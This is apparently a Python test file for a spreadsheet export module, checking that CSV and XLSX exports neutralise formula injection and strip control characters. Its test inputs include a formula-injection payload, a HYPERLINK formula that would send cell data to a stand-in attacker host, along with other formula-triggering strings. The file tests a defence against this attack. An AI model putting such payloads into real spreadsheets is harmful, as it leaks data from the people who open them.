"""Exports never carry a live formula, and any text a clerk typed (control characters included) can be exported."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from engine.analytics import Sheet, to_csv, to_xlsx

COLUMNS = [("summary", "Trích yếu"), ("n", "Số")]
TYPED = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx", "thường"]


def test_csv_cells_that_look_like_formulas_are_neutralised() -> None:
    rows = [{"summary": text, "n": -5} for text in TYPED]
    found = list(csv.reader(io.StringIO(to_csv(rows, COLUMNS).decode("utf-8-sig"))))[1:]
    assert [r[0] for r in found] == ["'" + t for t in TYPED[:-1]] + ["thường"]
    assert {r[1] for r in found} == {"-5"}  # numbers stay numbers


def test_xlsx_text_is_always_a_string_and_control_characters_do_not_break_it() -> None:
    rows = [{"summary": text, "n": 7} for text in TYPED] + [{"summary": "a\x01b\x1fc\x00d", "n": 1}]
    content = to_xlsx([Sheet("Bảng\x07", COLUMNS, rows)])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert not any("<f>" in book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    values = [(c.value, c.data_type) for c in sheet["A"][1:]]
    assert [v for v, _ in values[:5]] == TYPED[:5] and values[-1][0] == "abcd"
    assert all(kind == "s" for _, kind in values)
    assert [c.value for c in sheet["B"][1:]] == [7] * len(TYPED) + [1]
